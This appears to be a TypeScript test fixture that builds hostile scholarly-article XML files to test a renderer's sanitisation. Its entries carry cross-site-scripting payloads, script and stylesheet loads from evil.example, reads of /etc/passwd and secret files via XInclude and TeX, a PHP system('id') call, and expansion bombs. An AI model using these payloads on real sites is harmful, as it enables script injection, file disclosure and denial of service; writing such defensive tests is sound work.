import { articleAround } from './article-around.ts';
import { type Bait, type HostileFile, hostile } from './hostile-file.ts';

const inBody = (name: string, body: string): HostileFile => hostile(name, articleAround({ body }));
const inMeta = (name: string, meta: string): HostileFile => hostile(name, articleAround({ meta }));
const script = 'javascript:alert(1)';

const scriptAddresses = [
  script,
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  'java&#9;script:alert(1)',
  'java&#10;script:alert(1)',
  'javascript&#58;alert(1)',
  'vbscript:msgbox(1)',
  'data:text/html,&lt;script>alert(1)&lt;/script>',
  'file:///etc/passwd',
  '//evil.example/x',
  'https://user:password@evil.example/',
  'blob:https://evil.example/x',
];

const linking = [
  'ext-link',
  'uri',
  'self-uri',
  'related-object',
  'media',
  'graphic',
  'inline-graphic',
  'email',
  'supplementary-material',
];

/** Articles that carry scripts, handlers and foreign addresses to their readers. */
export const markupFiles = ({ secretFile, server }: Bait): readonly HostileFile[] => [
  ...scriptAddresses.map((address, place) =>
    inBody(
      `address ${place + 1}`,
      `<p>${linking.map((name) => `<${name} xlink:href="${address}">x</${name}>`).join('')}</p>`,
    ),
  ),
  inBody('script element', '<p>a<script>alert(1)</script>b</p><script src="https://evil.example/x.js"/>'),
  inBody('script element in another case', '<p><SCRIPT>alert(1)</SCRIPT><ScRiPt/></p>'),
  inBody('script element with a prefix', '<p><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script></p>'),
  inBody('script as text', '<p>&lt;script>alert(1)&lt;/script>&lt;img src=x onerror=alert(1)></p>'),
  inBody('script in CDATA', '<p><![CDATA[</p><script>alert(1)</script>]]></p>'),
  inBody('event attributes', '<p onclick="alert(1)" onmouseover="alert(1)"><italic onload="alert(1)">x</italic></p>'),
  inBody(
    'style attributes',
    '<p style="background:url(javascript:alert(1))">x</p><table-wrap><table style="x"><tr><td style="x">1</td></tr></table></table-wrap>',
  ),
  inBody('style element', '<style>@import "https://evil.example/x.css"</style>'),
  inBody(
    'HTML around the text',
    '<iframe src="javascript:alert(1)"/><object data="x"/><embed src="x"/><form action="x"><input/></form><base href="//evil.example/"/><meta http-equiv="refresh"/><link rel="stylesheet" href="x"/>',
  ),
  inBody(
    'SVG with a script',
    '<p><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script><foreignObject><body onload="alert(1)"/></foreignObject><a xlink:href="javascript:alert(1)"><text>x</text></a></svg></p>',
  ),
  inBody(
    'SVG with animation',
    '<svg:svg xmlns:svg="http://www.w3.org/2000/svg"><svg:animate attributeName="href" values="javascript:alert(1)"/><svg:use href="data:image/svg+xml;base64,PHN2Zy8+"/></svg:svg>',
  ),
  inBody(
    'MathML with an action',
    '<disp-formula><mml:math><mml:maction actiontype="statusline" xlink:href="javascript:alert(1)"><mml:mi>x</mml:mi><mml:mtext>y</mml:mtext></mml:maction></mml:math></disp-formula>',
  ),
  inBody(
    'MathML with a link',
    '<disp-formula><mml:math href="javascript:alert(1)" xlink:href="javascript:alert(1)" onclick="alert(1)" style="x"><mml:mi href="javascript:alert(1)">x</mml:mi></mml:math></disp-formula>',
  ),
  inBody(
    'MathML with HTML inside',
    '<inline-formula><mml:math><mml:semantics><mml:mi>x</mml:mi><mml:annotation-xml encoding="text/html"><script>alert(1)</script><img src="x" onerror="alert(1)"/></mml:annotation-xml></mml:semantics></mml:math></inline-formula>',
  ),
  inBody(
    'MathML that changes to HTML',
    '<inline-formula><mml:math><mml:mtext><table><mglyph><style><img src="x" onerror="alert(1)"/></style></mglyph></table></mml:mtext><mml:mglyph src="https://evil.example/x.png"/></mml:math></inline-formula>',
  ),
  inBody(
    'TeX with a link',
    '<disp-formula><tex-math>\\href{javascript:alert(1)}{x}\\url{javascript:alert(1)}</tex-math></disp-formula>',
  ),
  inBody(
    'TeX with HTML',
    '<disp-formula><tex-math>\\htmlClass{x}{y}\\style{background:red}{x}\\class{x}{y}\\id{a}{b}&lt;script></tex-math></disp-formula>',
  ),
  inBody('TeX that defines itself', '<disp-formula><tex-math>\\def\\a{\\a\\a}\\a</tex-math></disp-formula>'),
  inBody(
    'TeX that doubles',
    '<disp-formula><tex-math>\\def\\a{xxxxxxxxxx}\\def\\b{\\a\\a\\a\\a\\a\\a\\a\\a\\a\\a}\\def\\c{\\b\\b\\b\\b\\b\\b\\b\\b\\b\\b}\\def\\d{\\c\\c\\c\\c\\c\\c\\c\\c\\c\\c}\\def\\e{\\d\\d\\d\\d\\d\\d\\d\\d\\d\\d}\\def\\f{\\e\\e\\e\\e\\e\\e\\e\\e\\e\\e}\\def\\g{\\f\\f\\f\\f\\f\\f\\f\\f\\f\\f}\\g</tex-math></disp-formula>',
  ),
  inBody(
    'TeX nested deep',
    `<disp-formula><tex-math>${'{'.repeat(20_000)}x${'}'.repeat(20_000)}</tex-math></disp-formula>`,
  ),
  inBody(
    'TeX that names a file',
    `<disp-formula><tex-math>\\input{${secretFile}}\\includegraphics{${server}/tex.png}</tex-math></disp-formula>`,
  ),
  inBody(
    'ids that break out',
    '<sec id="&quot;>&lt;script>alert(1)&lt;/script>"><title>x</title></sec><sec id="__proto__"><title>y</title></sec>',
  ),
  inBody(
    'attributes that break out',
    '<fig id="f"><label>Figure 1</label><graphic xlink:href="&quot; onerror=&quot;alert(1)"/><alt-text>&quot;>&lt;script></alt-text></fig><ext-link xlink:href="https://a.example/&quot; onclick=&quot;alert(1)">x</ext-link>',
  ),
  inBody(
    'names of files that lead elsewhere',
    '<fig id="f"><graphic xlink:href="../../../../etc/passwd"/></fig><supplementary-material xlink:href="..\\..\\windows\\system.ini"/>',
  ),
  inBody(
    'XInclude of a file',
    `<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file://${secretFile}" parse="text"/>`,
  ),
  inBody(
    'XInclude from a server',
    `<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="${server}/include"><xi:fallback><script>alert(1)</script></xi:fallback></xi:include>`,
  ),
  hostile(
    'style sheet instruction',
    articleAround({ before: `<?xml-stylesheet type="text/xsl" href="${server}/x.xsl"?>` }),
  ),
  hostile('server instruction', articleAround({ body: '<?php system("id") ?><p>x</p>' })),
  hostile(
    'schema location',
    articleAround({
      body: `<p xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="x ${server}/x.xsd">x</p>`,
    }),
  ),
  hostile(
    'script in the title',
    articleAround({
      title: '<script>alert(1)</script><italic onclick="alert(1)">x</italic>&lt;img src=x onerror=alert(1)>',
    }),
  ),
  inMeta(
    'script in the abstract',
    '<abstract><p><script>alert(1)</script><ext-link xlink:href="javascript:alert(1)">x</ext-link></p></abstract>',
  ),
  inMeta(
    'script in the impact statement',
    '<custom-meta-group><custom-meta><meta-name>Impact statement</meta-name><meta-value><script>alert(1)</script>&lt;b onclick=x></meta-value></custom-meta></custom-meta-group>',
  ),
  inMeta(
    'script in names and keywords',
    '<contrib-group><contrib><name><surname>&lt;script>alert(1)&lt;/script></surname></name><email>javascript:alert(1)</email></contrib></contrib-group><kwd-group><kwd><script>x</script></kwd></kwd-group>',
  ),
  inMeta(
    'script as a licence',
    '<permissions><license xlink:href="javascript:alert(1)"><license-p><ext-link xlink:href="data:text/html,x">x</ext-link></license-p></license></permissions>',
  ),
  inMeta(
    'script as a relation',
    '<related-article related-article-type="retracted-article" xlink:href="javascript:alert(1)"/><self-uri content-type="pdf" xlink:href="javascript:alert(1)"/>',
  ),
  inMeta(
    'language that breaks out',
    '<abstract xml:lang="&quot;>&lt;script>"><p>x</p></abstract><kwd-group xml:lang="__proto__"><kwd>x</kwd></kwd-group><trans-abstract xml:lang="constructor"><p>y</p></trans-abstract>',
  ),
  hostile(
    'script in the references',
    articleAround({
      rest: '<back><ref-list><ref id="r1"><mixed-citation><script>alert(1)</script><ext-link xlink:href="javascript:alert(1)">x</ext-link><pub-id pub-id-type="doi">10.5555/&quot; onclick=alert(1)</pub-id><uri>javascript:alert(1)</uri></mixed-citation></ref></ref-list></back>',
    }),
  ),
  hostile(
    'script in a review',
    articleAround({
      rest: '<sub-article article-type="referee-report"><front-stub><article-id pub-id-type="doi">10.5555/r</article-id><title-group><article-title><script>x</script></article-title></title-group></front-stub><body><p onclick="x"><script>alert(1)</script></p></body></sub-article>',
    }),
  ),
];
